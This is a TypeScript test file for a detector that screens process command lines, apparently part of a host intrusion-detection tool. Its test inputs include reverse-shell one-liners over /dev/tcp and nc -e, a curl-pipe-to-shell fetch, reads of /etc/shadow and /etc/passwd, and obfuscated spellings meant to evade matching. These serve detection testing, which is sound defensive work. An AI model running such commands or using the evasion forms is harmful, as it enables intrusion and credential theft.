import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessInfo } from '../events/model.js';
import { Indicators } from '../indicators/indicators.js';
import { ExecScreens, ScreenAutomaton } from './screen.js';

const automaton = new ScreenAutomaton(
  [
    { text: 'curl', owner: 0 },
    { text: 'wget', owner: 0 },
    { text: '/tcp/', owner: 1 },
    { text: 'shadow', owner: 2 },
    { text: 'adow', owner: 3 },
    { text: 'hado', owner: 4 },
  ],
  5,
);

function proc(commandLine: string, extra: Partial<ProcessInfo> = {}): ProcessInfo {
  const args = commandLine.split(' ');
  return { pid: 1, executable: '/bin/true', args, commandLine, ...extra };
}

function seen(process: ProcessInfo): number[] | 'all' {
  const hits = automaton.scan(process);
  return hits.all ? 'all' : [...hits.seen].flatMap((v, i) => (v ? [i] : []));
}

test('every owner whose string occurs is marked, overlapping ones included', () => {
  assert.deepEqual(seen(proc('curl -s http://x/ | sh')), [0]);
  assert.deepEqual(seen(proc('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')), [1]);
  assert.deepEqual(seen(proc('cat /etc/shadow')), [2, 3, 4]);
  assert.deepEqual(seen(proc('ls -l /srv')), []);
});

test('the text is read as the command-line readers could read it: case, quotes and escapes do not hide a string', () => {
  assert.deepEqual(seen(proc("C'u'\"R\"L http://x")), [0]);
  assert.deepEqual(seen(proc('w\\get http://x')), [0]);
  assert.deepEqual(seen(proc('cu\\\nrl http://x')), [0]);
  assert.deepEqual(seen(proc('cu``rl')), [0], 'backticks are removed as the readers remove them');
});

test('the executable, the arguments when the command line is not their join, and the working directory are read', () => {
  assert.deepEqual(seen(proc('x', { executable: '/usr/bin/wget' })), [0]);
  assert.deepEqual(seen({ pid: 1, executable: '/bin/x', args: ['/bin/x', '/dev/tcp/1.2.3.4/1'], commandLine: '/bin/x (redacted)' }), [1]);
  assert.deepEqual(seen(proc('cat ./x', { cwd: '/etc/shadow.d' })), [2, 3, 4]);
});

test('what the readers could decode into other letters passes every screen', () => {
  assert.equal(seen(proc('\u212aubectl get pods')), 'all', 'non-ASCII (the Kelvin sign lower-cases to k)');
  assert.equal(seen(proc("$'\\x63url' http://x")), 'all', 'ANSI-C quoting');
  assert.equal(seen(proc('a=cu; ${a}rl http://x')), 'all', 'a variable the script assigns');
  assert.deepEqual(seen(proc('echo $HOME/shadow')), [2, 3, 4], 'a variable alone cannot spell a word the text lacks');
  assert.deepEqual(seen(proc('java -Dport=8080 -jar app.jar')), [], 'an assignment alone either');
});

test('a scan forgets the previous one', () => {
  assert.deepEqual(seen(proc('curl x')), [0]);
  assert.deepEqual(seen(proc('true')), []);
});

test('strings that could never match as written are refused', () => {
  for (const bad of ['', 'Curl', 'bash -i', "'sh'", 'a\\b', 'ünï']) {
    assert.throws(() => new ScreenAutomaton([{ text: bad, owner: 0 }], 1), /exec screens/, bad);
  }
});

test('whole words match only between boundaries, however the word is quoted or reached', () => {
  const words = new ScreenAutomaton(
    [
      { text: 'w', owner: 0, word: true },
      { text: '/etc/passwd', owner: 1, word: true },
      { text: 'dev/tcp', owner: 2 },
    ],
    3,
  );
  const hit = (commandLine: string, extra: Partial<ProcessInfo> = {}) => {
    const hits = words.scan(proc(commandLine, extra));
    return hits.all ? 'all' : [...hits.seen].flatMap((v, i) => (v ? [i] : []));
  };
  assert.deepEqual(hit('w'), [0]);
  assert.deepEqual(hit('/usr/bin/w -h'), [0]);
  assert.deepEqual(hit("sh -c 'id;w|head'"), [0]);
  assert.deepEqual(hit('sh -c "$(w)"'), [0]);
  assert.deepEqual(hit('x', { executable: '/usr/bin/W' }), [0], 'case folded');
  assert.deepEqual(hit('wget -q http://www.example.com/w.tgz'), [], 'w.tgz is another name');
  assert.deepEqual(hit('curl -s -w %{http_code} http://x'), [], 'an option is not the name');
  assert.deepEqual(hit('apt-get install w3m'), []);
  assert.deepEqual(hit('wget -q http://example.com/x'), [], 'w inside words does not match');
  assert.equal(hit('echo a`w`'), 'all', 'a backtick would join the word to its neighbour');
  assert.deepEqual(hit('cat /etc/passwd'), [1]);
  assert.deepEqual(hit('cat /etc/passwd/'), [1]);
  assert.deepEqual(hit("cat '/etc/passwd'"), [1]);
  assert.deepEqual(hit('cat /etc/passwd.bak'), []);
  assert.deepEqual(hit('cat /etc/passwd;id'), [1]);
  assert.deepEqual(hit('cat /etc/passwdx'), []);
  assert.deepEqual(hit('bash -i >& /dev/tcp/1.2.3.4/80 0>&1'), [2], 'substrings still match across boundaries');
});

test('ExecScreens settles per detection: a string, all groups of an entry, or a screen that cannot vouch for the text', () => {
  const indicators = new Indicators();
  const screens = new ExecScreens(
    [
      { anyOf: ['curl'] },
      { allOf: [[['python'], ['socket']], [{ words: ['nc'] }, ['-e']]] },
      { anyOf: ['never-in-any-text'], openWhen: () => true },
      undefined,
    ],
    indicators,
  );
  const passing = (commandLine: string) => {
    screens.scan({ kind: 'process.exec', id: 'x', time: 0, source: 'vigil', node: 'n', process: proc(commandLine), ancestors: [] });
    return [0, 1, 2, 3].filter((i) => screens.textPasses(i));
  };
  assert.deepEqual(passing('curl -s http://x'), [0, 2, 3]);
  assert.deepEqual(passing('python3 -c print(1)'), [2, 3], 'one group of an entry is not enough');
  assert.deepEqual(passing('python3 -c import socket'), [1, 2, 3]);
  assert.deepEqual(passing('nc -e /bin/sh 10.0.0.1 4444'), [1, 2, 3]);
  assert.deepEqual(passing('sync -e'), [2, 3], 'nc as a whole word only');
  assert.deepEqual(passing('ls'), [2, 3]);
});

test('strings from indicator lists are lower-cased, and a value no scan can find leaves its group open instead of failing', () => {
  const screens = new ExecScreens(
    [{ anyOf: () => ['CURL'] }, { anyOf: () => ['nmap', 'two words'] }, { allOf: [[() => ["it's"], ['socket']]] }],
    new Indicators(),
  );
  const passing = (commandLine: string) => {
    screens.scan({ kind: 'process.exec', id: 'x', time: 0, source: 'vigil', node: 'n', process: proc(commandLine), ancestors: [] });
    return [0, 1, 2].filter((i) => screens.textPasses(i));
  };
  assert.deepEqual(passing('curl http://x'), [0, 1]);
  assert.deepEqual(passing('ls'), [1]);
  assert.deepEqual(passing('python -c import socket'), [1, 2]);
  assert.throws(() => new ExecScreens([{ anyOf: ['Curl'] }], new Indicators()), /exec screens/, 'a string written in the code must be right');
});
